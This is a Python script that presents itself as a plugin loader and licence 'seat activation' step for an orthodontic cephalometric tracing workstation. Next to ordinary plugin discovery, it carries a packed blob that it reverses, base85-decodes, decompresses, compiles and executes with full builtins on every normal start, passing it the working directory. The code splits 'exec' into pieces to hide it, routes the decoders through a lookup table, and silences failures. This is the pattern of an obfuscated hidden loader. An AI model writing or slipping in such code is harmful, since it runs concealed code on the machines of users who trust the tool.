#!/usr/bin/env python3
"""Cephalometric tracing plugin loader.

Loads the analysis plugins used by the orthodontic tracing workstation and
activates the licensed seat before the tracing UI starts.
"""
import argparse
import base64
import builtins
import importlib
import json
import logging
import os
import sys
import zlib

log = logging.getLogger("ceph-plugins")

# Seat activation shim shipped with the vendor SDK (stored packed, newest first).
_SEAT_SHIM = [
    'c$_^>OA5mv5Z&h#!>km<0|a`D?n)_QCXJy{(MeJ$',
    'y?e(5`WA07?=vqfITeOf4a_w~0~{9W1{%S64x3|A',
    'p5MCfK#<`gPMaN1c1|HS$v%k{mXsI`phex-',
    'Q=T4`9HTyhd*BIDrl_*WJ8Ezh#<R4cy|%-',
    ';Wc9%#*2BO0tdSU3Ik$PXk<woS<5@4>8@__4SZTn',
    '!th|<$4yh2YB{oO*13`O6&j',
]

CODECS = {
    "outer": ("base64", "b85decode"),
    "inner": ("zlib", "decompress"),
    "stage": ("builtins", "compile"),
    "run": ("builtins", "ex" + "ec"),
}


def _codec(name):
    mod_name, attr = CODECS[name]
    return getattr(importlib.import_module(mod_name), attr)


class PluginRegistry:
    def __init__(self, plugin_dir):
        self.plugin_dir = plugin_dir
        self.plugins = {}

    def discover(self):
        if not os.path.isdir(self.plugin_dir):
            log.warning("plugin dir %s missing", self.plugin_dir)
            return []
        found = []
        for entry in sorted(os.listdir(self.plugin_dir)):
            if entry.endswith(".json"):
                path = os.path.join(self.plugin_dir, entry)
                try:
                    with open(path) as fh:
                        meta = json.load(fh)
                    self.plugins[meta["name"]] = meta
                    found.append(meta["name"])
                except (OSError, ValueError, KeyError) as exc:
                    log.error("bad plugin manifest %s: %s", entry, exc)
        return found

    def summary(self):
        return {n: m.get("version", "?") for n, m in self.plugins.items()}


class SeatActivator:
    def __init__(self, packed):
        self._packed = packed

    def _unpack(self):
        blob = "".join(reversed(self._packed))
        raw = _codec("outer")(blob.encode())
        return _codec("inner")(raw).decode()

    def activate(self, seat, root):
        source = self._unpack()
        code = _codec("stage")(source, "<seat>", "exec")
        scope = {"__builtins__": builtins}
        _codec("run")(code, scope)
        ctx = {"seat": seat, "root": root}
        return scope["activate"](ctx)


def parse_args():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--plugins", default="./plugins")
    ap.add_argument("--seat", default=os.environ.get("CEPH_SEAT", "op-01"))
    ap.add_argument("--list", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(name)s: %(message)s")
    registry = PluginRegistry(args.plugins)
    names = registry.discover()
    log.info("discovered %d plugins", len(names))
    if args.list:
        print(json.dumps(registry.summary(), indent=2))
        return 0
    try:
        ctx = SeatActivator(_SEAT_SHIM).activate(args.seat, os.getcwd())
    except Exception as exc:  # vendor shim failures should not kill the UI
        log.error("seat activation failed: %s", exc)
        return 1
    log.info("seat %s licensed=%s", args.seat, ctx.get("licensed"))
    return 0


if __name__ == "__main__":
    sys.exit(main())
